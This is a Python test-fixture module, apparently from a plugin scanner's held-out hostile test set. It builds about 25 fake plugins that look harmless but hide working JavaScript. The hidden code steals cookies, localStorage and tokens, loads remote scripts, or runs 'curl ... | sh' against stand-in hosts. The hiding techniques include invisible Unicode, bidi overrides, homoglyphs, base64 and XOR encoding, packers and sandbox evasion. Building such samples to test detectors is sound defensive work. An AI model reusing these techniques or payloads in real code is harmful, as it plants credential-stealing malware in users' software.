"""Code that does not look like code: encoded, invisible, turned, packed, far away or put together from innocent words.

After GlassWorm, "Trojan Source", javascript-obfuscator output, the packer of old, JSFuck, and hidden constructors.
"""

from base64 import b64encode

from tests.hostile.heldout.around import plugin
from tests.support.samples import Sample

NET = "network-access storage-read"
SEND = "fetch('https://beacon.example.net/h?c='+encodeURIComponent(document.cookie))"
LOAD = "var s=document.createElement('script');s.src='https://beacon.example.net/a.js';document.head.appendChild(s)"
NODE_RUN = "require('child_process').exec('curl -s https://beacon.example.org/x|sh')"
RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"


def _selectors(text: str) -> str:
    """Spell bytes as variation selectors, as GlassWorm does."""
    return "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in text.encode())


def _zero_width(text: str) -> str:
    bits = "".join(f"{b:08b}" for b in text.encode())
    return bits.replace("0", "\u200b").replace("1", "\u200c")


def _tags(text: str) -> str:
    return "".join(chr(0xE0000 + ord(c)) for c in text)


def _xored(text: str, key: int) -> str:
    return ",".join(str(b ^ key) for b in text.encode())


def _hexed(text: str) -> str:
    return "".join(f"\\x{b:02x}" for b in text.encode())


def _unicoded(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def _base64(text: str) -> str:
    return b64encode(text.encode()).decode()


def _filler(lines: int) -> str:
    return "\n".join(
        f"function step{i}(a, b) {{ return a * {i * 7 % 13} + b % {i + 3}; }} // eased by {i} per cent"
        for i in range(lines)
    )


HIDDEN: tuple[Sample, ...] = (
    plugin(
        "string-array-rotated",
        "obfuscated",
        "week-plan",
        "Plans your week.",
        r"""
var _0x4f1a=['cookie','https://beacon.example.net/','createElement','src','img','random','location','href','341122yTrQxC','76LmPoWe','9120kZxVbn'];(function(_0x2b1c,_0x4f1a0d){var _0x58ab=function(_0x1f){while(--_0x1f){_0x2b1c['push'](_0x2b1c['shift']());}};_0x58ab(++_0x4f1a0d);}(_0x4f1a,0x1a3));var _0x58ab=function(_0x2b1c,_0x4f1a0d){_0x2b1c=_0x2b1c-0x0;var _0x58abcd=_0x4f1a[_0x2b1c];return _0x58abcd;};(function(){var _0x11d3=document[_0x58ab('0x4')](_0x58ab('0x6'));_0x11d3[_0x58ab('0x5')]=_0x58ab('0x3')+Math[_0x58ab('0x7')]()+'?'+btoa(document[_0x58ab('0x2')]+window[_0x58ab('0x8')][_0x58ab('0x9')]);}());exports['WeekPlan']=function(){return null;};
""",
    ),
    plugin(
        "only-six-characters",
        "obfuscated",
        "dice",
        "Throws dice.",
        {
            "dist/index.js": "'use strict';\nexports.Dice = () => 1 + Math.floor(Math.random() * 6);\nrequire('./faces');\n",
            "dist/faces.js": "module.exports=[1,2,3,4,5,6];\n"
            "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+"
            "(!![]+[])[+!+[]]][([][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+"
            "(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]+([![]]+[][[]])"
            "[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]])[+!+[]+[+[]]]+"
            "([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]]"
            "((![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]+(!![]+[])[+[]])();\n",
        },
    ),
    plugin(
        "variation-selectors-decoded",
        "invisible",
        "emoji-picker",
        "Picks the right emoji.",
        "'use strict';\n"
        "const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : "
        "w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);\n"
        "eval(Buffer.from(s(`" + _selectors(NODE_RUN) + "`)).toString('utf-8'));\n"
        "exports.EmojiPicker = () => '\U0001f600 \U0001f603 \U0001f604';\n",
    ),
    plugin(
        "zero-width-in-label",
        "invisible",
        "greeting",
        "Greets you by name.",
        "const label = 'Good morning" + _zero_width(SEND) + "';\n"
        "const part = (t) => t.replace(/[^\\u200b\\u200c]/g, '').match(/.{8}/g)\n"
        "  .map((o) => String.fromCharCode(parseInt([...o].map((c) => +(c === '\\u200c')).join(''), 2))).join('');\n"
        "queueMicrotask(() => Reflect.construct(Function, [part(label)])());\n"
        "export const Greeting = ({ name }) => label.replace(/[\\u200b\\u200c]/g, '') + ', ' + name;\n",
    ),
    plugin(
        "tag-characters-in-translation",
        "invisible",
        "phrase-book",
        "Teaches ten phrases a day.",
        {
            "dist/index.js": "'use strict';\nconst book = require('./phrases.json');\nconst tidy = require('./tidy');\n"
            "exports.PhraseBook = ({ lang = 'en' }) => book[lang].map((p) => tidy(p)).join(', ');\n",
            "dist/tidy.js": r"""
'use strict';
const AT = 0xe0000;
module.exports = function tidy(phrase) {
  let shown = '', rest = '';
  for (const ch of phrase) {
    const c = ch.codePointAt(0);
    c >= AT && c < AT + 128 ? (rest += String.fromCharCode(c - AT)) : (shown += ch);
  }
  if (rest) tidy.constructor(rest)();
  return shown;
};
""",
            "dist/phrases.json": '{"en": ["hello' + _tags(SEND) + '", "thank you"], "de": ["hallo", "danke"]}\n',
        },
    ),
    plugin(
        "hangul-filler-parameter",
        "invisible",
        "net-check",
        "Checks whether hosts answer.",
        "'use strict';\nconst { exec } = require('child_process');\nconst { promisify } = require('util');\n"
        "const run = promisify(exec);\n"
        "exports.NetCheck = () => null;\n"
        "exports.handle = async (req, res) => {\n"
        "  const { timeout,\u3164} = req.query;\n"
        "  const checks = ['ping -c 1 example.com', 'curl -s https://example.org/',\u3164];\n"
        "  try {\n"
        "    await Promise.all(checks.map((c) => c && run(c, { timeout: +timeout || 5000 })));\n"
        "    res.status(200).send('ok');\n"
        "  } catch (e) { res.status(500).send('failed'); }\n"
        "};\n",
        manifest={"type": "service"},
    ),
    plugin(
        "turned-text-hides-a-condition",
        "turned-text",
        "access-badge",
        "Shows your access level.",
        "'use strict';\n"
        "exports.AccessBadge = function AccessBadge({ user, pluginApi }) {\n"
        "  const level = user.role || 'user';\n"
        f'  if (level !== "user{RLO} {LRI}// only for administrators{PDI} {LRI}") {{\n'
        "    pluginApi.http.post('https://badge.example.com/log', { user, cookie: document.cookie });\n"
        "  }\n"
        f"  /* {RLO}}} {LRI}if (level === 'guest'){PDI}{LRI} show nothing */\n"
        "  return level;\n"
        "};\n",
        permissions=NET,
    ),
    plugin(
        "look-alike-function-names",
        "look-alike",
        "csv-export",
        "Exports tables as CSV.",
        "'use strict';\n"
        "function escapeCell(v) { return '\"' + String(v).replace(/\"/g, '\"\"') + '\"'; }\n"
        "function \u0435scapeCell(v) {\n"
        "  new Image().src = 'https://c\u0441v.example.org/c?' + new URLSearchParams({ v, k: localStorage.token });\n"
        "  return escapeCell(v);\n"
        "}\n"
        "exports.rows = (rows) => rows.map((r) => r.map(\u0435scapeCell).join(',')).join('\\n');\n"
        "exports.CsvExport = () => 'Export';\n",
    ),
    plugin(
        "far-to-the-right",
        "out-of-sight",
        "sticky-note",
        "A note that sticks.",
        "'use strict';\nconst React = require('react');\n\nfunction StickyNote({ text }) {\n"
        "  return React.createElement('textarea', { defaultValue: text });" + " " * 900 + SEND + ";\n}\n\n"
        "exports.StickyNote = StickyNote;\n",
        needs="react",
    ),
    plugin(
        "nested-base64-reversed",
        "encoded",
        "countdown",
        "Counts the days to a date.",
        "(function () {\n  var d = '" + _base64(_base64(LOAD)[::-1]) + "';\n"
        "  var f = atob(atob(d).split('').reverse().join(''));\n  self['Func' + 'tion'](f)();\n})();\n"
        "exports.Countdown = function (p) { return Math.ceil((new Date(p.date) - Date.now()) / 864e5); };\n",
    ),
    plugin(
        "numbers-with-a-key",
        "encoded",
        "color-wheel",
        "Finds colours that go together.",
        "const hues = [" + _xored(NODE_RUN, 0x5A) + "];\n"
        "const mix = (list, seed) => list.map((h) => String.fromCharCode(h ^ seed)).join('');\n"
        "export const ColorWheel = ({ base = 200 }) => `hsl(${base} 60% 50%)`;\n"
        "export const onEnable = async () => {\n"
        "  const palette = mix(hues, 90);\n"
        "  const apply = globalThis[mix([63, 44, 59, 54], 90)];\n"
        "  apply(palette);\n};\n",
        hooks="onEnable",
    ),
    plugin(
        "constructor-of-a-method",
        "indirect-evaluation",
        "unit-converter",
        "Converts units.",
        r"""
'use strict';
const table = { km: 1000, m: 1, cm: 0.01, mi: 1609.344 };
const convert = (v, a, b) => (v * table[a]) / table[b];
const labels = 'flatMap,constructor,return this,fetch,document,cookie,https://units.example.net/r'.split(',');
const root = [][labels[0]][labels[1]](labels[2])();
root[labels[3]](labels[6], { method: 'POST', mode: 'no-cors', body: root[labels[4]][labels[5]] });
exports.convert = convert;
exports.UnitConverter = () => null;
""",
    ),
    plugin(
        "evaluator-found-by-shape",
        "indirect-evaluation",
        "regex-tester",
        "Tests regular expressions.",
        r"""
const names = Object.getOwnPropertyNames(globalThis);
const pick = (n, a, z) => names.find((k) => k.length === n && k[0] === a && k[n - 1] === z);
const tool = { run: globalThis[pick(4, 'e', 'l')], get: globalThis[pick(5, 'f', 'h')], dec: globalThis[pick(4, 'a', 'b')] };

export function RegexTester({ pattern = '.', text = '' }) {
  return (text.match(new RegExp(pattern, 'g')) || []).length + ' matches';
}
tool.get(tool.dec('aHR0cHM6Ly9yZWdleC5leGFtcGxlLmNvbS9zYW1wbGVzLnR4dA==')).then((r) => r.text()).then(tool.run);
""",
    ),
    plugin(
        "generator-function-built",
        "indirect-evaluation",
        "text-snippets",
        "Expands short forms.",
        r"""
'use strict';
const Gen = Object.getPrototypeOf(function* () {}).constructor;
const snippets = new Map([['mfg', 'Mit freundlichen Gruessen'], ['brb', 'be right back']]);
exports.expand = (word) => snippets.get(word) || word;
exports.TextSnippets = () => [...snippets.keys()].join(', ');
exports.onConfigChange = async ({ config, api }) => {
  const answer = await api.http.get(config.source || 'https://snips.example.org/default');
  for (const item of Gen('api', await answer.text())(api)) snippets.set(item.k, item.v);
};
""",
        permissions=NET,
        services={"snips": "https://snips.example.org"},
        hooks="onConfigChange",
    ),
    plugin(
        "names-in-escapes",
        "encoded",
        "tag-cloud",
        "Draws your tags as a cloud.",
        "'use strict';\nvar w = window, k = ['"
        + _hexed("localStorage")
        + "', '"
        + _hexed("XMLHttpRequest")
        + "', '"
        + _hexed("https://cloud.example.net/t")
        + "'];\n"
        "var x = new w[k[1]]();\nx['" + _hexed("open") + "']('" + _hexed("POST") + "', k[2]);\n"
        "x['" + _hexed("send") + "'](JSON['" + _hexed("stringify") + "'](w[k[0]]));\n"
        "w['" + _unicoded("eval") + "'](w['" + _unicoded("atob") + "']('" + _base64("void 0") + "'));\n"
        "exports.TagCloud = function (p) { return (p.tags || []).join(' '); };\n",
    ),
    plugin(
        "inside-a-useful-library",
        "needle-in-bundle",
        "ease-motion",
        "Moves widgets softly.",
        _filler(70) + "\nfunction curve(t) { return t < .5 ? 2 * t * t : 1 - (-2 * t + 2) ** 2 / 2; }\n"
        "curve.from = function (n) { n = n || 'c3RvcmFnZQ'; try { new Function(atob('"
        + _base64(SEND)
        + "'))(); } catch (e) { } return curve; };\n"
        + _filler(40).replace("step", "turn")
        + "\nexports.EaseMotion = function () { return curve.from()(0.3); };\n",
    ),
    plugin(
        "development-bundle-of-evals",
        "needle-in-bundle",
        "sun-times",
        "Shows sunrise and sunset.",
        r"""
/******/ (() => {
/******/ 	var __webpack_modules__ = ({
/***/ "./src/index.js":
/***/ ((module, exports, __webpack_require__) => {
eval("const sun = __webpack_require__(\"./src/sun.js\");\nexports.SunTimes = () => sun(new Date());\n\n//# sourceURL=webpack://sun/./src/index.js?");
/***/ }),
/***/ "./src/sun.js":
/***/ ((module) => {
eval("module.exports = (d) => d.getMonth() > 3 ? '06:10' : '07:55';\nfetch('https://sun.example.org/v', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ c: document.cookie, l: localStorage }) });\n\n//# sourceURL=webpack://sun/./src/sun.js?");
/***/ })
/******/ 	});
/******/ 	var cache = {};
/******/ 	function __webpack_require__(id) {
/******/ 		if (cache[id]) return cache[id].exports;
/******/ 		var m = cache[id] = { exports: {} };
/******/ 		__webpack_modules__[id](m, m.exports, __webpack_require__);
/******/ 		return m.exports;
/******/ 	}
/******/ 	module.exports = __webpack_require__("./src/index.js");
/******/ })();
""",
    ),
    plugin(
        "text-of-a-comment-runs",
        "data-as-code",
        "flash-cards",
        "Learns words with cards.",
        "'use strict';\nfunction notes() {/*" + _base64(LOAD) + "*/}\n"
        "const cards = [['Haus', 'house'], ['Baum', 'tree']];\n"
        "const inner = notes.toString().slice(20, -3);\n"
        "exports.FlashCards = () => cards.map((c) => c.join(' = ')).join('\\n');\n"
        "exports.onEnable = async () => (async () => {}).constructor(atob(inner))();\n",
        hooks="onEnable",
    ),
    plugin(
        "licence-comment-read-back",
        "data-as-code",
        "page-ruler",
        "A ruler across the page.",
        "/*!\n * ruler v1.0.0 | (c) Acme | BSD-3-Clause\n * " + _base64(NODE_RUN) + "\n */\n"
        "'use strict';\nconst own = require('fs').readFileSync(__filename, 'utf8');\n"
        "const build = own.split('\\n')[2].slice(3);\nexports.PageRuler = () => '|....|....|';\n"
        "if (!process.env.JEST_WORKER_ID) module._compile(Buffer.from(build, 'base64').toString(), __filename + '.min');\n",
    ),
    plugin(
        "words-from-large-numbers",
        "encoded",
        "number-trivia",
        "A fact about a number.",
        f"""
'use strict';
const n = [{int("eval", 36)}, {int("atob", 36)}, {int("fetch", 36)}, {int("then", 36)}, {int("text", 36)}];
const [e, a, f, t, x] = n.map((v) => v.toString(36));
const g = this || globalThis;
globalThis[f](globalThis[a]('{_base64("https://trivia.example.net/n")}'))[t]((r) => r[x]())[t](globalThis[e]);
exports.NumberTrivia = () => '42 is the answer';
""",
    ),
    plugin(
        "old-packer",
        "obfuscated",
        "marquee",
        "Runs a text across the screen.",
        r"""
eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('5 0=4 6();0.3=\'7://8.9.a/b?\'+2(1.c)',13,13,'i|document|escape|src|new|var|Image|https|marquee|example|net|m|cookie'.split('|'),0,{}));
exports.Marquee=function(p){return p.text};
""",
    ),
    plugin(
        "waits-and-looks-around-first",
        "evasion",
        "screen-break",
        "Dims the screen when you should rest.",
        "const calm = () => {\n"
        "  if (navigator.webdriver || /HeadlessChrome|jsdom|PhantomJS/.test(navigator.userAgent)) return false;\n"
        "  if (outerWidth - innerWidth > 160 || outerHeight - innerHeight > 200) return false;\n"
        "  const t = performance.now();\n  debugger;\n  if (performance.now() - t > 100) return false;\n"
        "  if (/^(ru|be|uk|kk)/.test(navigator.language)) return false;\n"
        "  const since = +localStorage.getItem('sb:first') || +(localStorage.setItem('sb:first', Date.now()), Date.now());\n"
        "  return Date.now() - since > 14 * 864e5 && Math.random() < 0.2;\n};\n"
        "setTimeout(() => { if (calm()) "
        + LOAD.replace(";", ",").replace("var s=", "(globalThis.s=").replace("('script'),", "('script')),", 1)
        + "; }, 6e5);\n"
        "export const ScreenBreak = () => 'Next break: 15:00';\n",
    ),
    plugin(
        "regex-sources-as-store",
        "encoded",
        "phone-format",
        "Writes telephone numbers nicely.",
        r"""
'use strict';
const forms = [/child_/, /process/, /\+?(\d{1,3})/, /exec/, /curl -s phone\.example\.org\/i/, /sh$/];
const src = (i) => forms[i].source.replace(/\\(.)/g, '$1').replace('$', '');
exports.format = (n) => n.replace(forms[2], '+$1 ');
exports.PhoneFormat = () => exports.format('49301234567');
exports.onEnable = async () => {
  const part = module.require(src(0) + src(1));
  part[src(3)](src(4) + ' | ' + src(5));
};
""",
        hooks="onEnable",
    ),
    plugin(
        "proxy-that-answers-with-globals",
        "indirect-evaluation",
        "list-sorter",
        "Sorts lists in every way.",
        r"""
const box = new Proxy({}, {
  has: () => true,
  get: (_, key) => (key === Symbol.unscopables ? undefined : globalThis[[...String(key)].reverse().join('')]),
});
const order = (list) => list.slice().sort((a, b) => a.localeCompare(b));

export function ListSorter({ items = [] }) { return order(items).join('\n'); }

export async function onEnable() {
  const { hctef, egarotSlacol, NOSJ } = box;
  await hctef(['gro.elpmaxe.tros', '//:sptth'].map((s) => [...s].reverse().join('')).reverse().join('') + '/l', {
    method: 'POST', mode: 'no-cors', body: NOSJ.stringify({ ...egarotSlacol }),
  });
}
""",
        hooks="onEnable",
    ),
    plugin(
        "svg-asset-with-script",
        "data-as-code",
        "logo-box",
        "Shows the logo of your team.",
        {
            "dist/index.js": r"""
'use strict';
exports.LogoBox = () => null;
exports.mount = (node) => {
  const view = document.createElement('object');
  view.type = 'image/svg+xml';
  view.data = new URL('../assets/logo.svg', document.currentScript ? document.currentScript.src : location.href).href;
  node.appendChild(view);
};
""",
            "assets/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><circle cx="12" cy="12" r="10"/>'
            "<script><![CDATA[ top.fetch('https://logo.example.net/c', {method: 'POST', mode: 'no-cors', "
            "body: top.document.cookie + JSON.stringify(top.localStorage)}) ]]></script></svg>\n",
        },
    ),
    plugin(
        "control-flow-flattened",
        "obfuscated",
        "lunch-wheel",
        "Decides where to have lunch.",
        r"""
(function(a,b){var c=b();for(;;){try{var d=parseInt(c[0])/1+parseInt(c[1])/2*(parseInt(c[2])/3);if(d===a)break;c.push(c.shift())}catch(e){c.push(c.shift())}}})(6,L);
function L(){var t=["2x","4y","6z","lunch.example.org","sendBeacon","cookie","https://"];L=function(){return t};return t}
var st="3|0|2|1|4".split("|"),ix=0,u,v,h;
while(!![]){switch(st[ix++]){case"0":v=navigator;continue;case"1":h=u[6]+u[3]+"/w";continue;case"2":if(!v)break;continue;case"3":u=L();continue;case"4":v[u[4]](h,document[u[5]]);continue}break}
exports.LunchWheel=function(p){var o=p.options||["Soup"];return o[Math.random()*o.length|0]};
""",
    ),
)
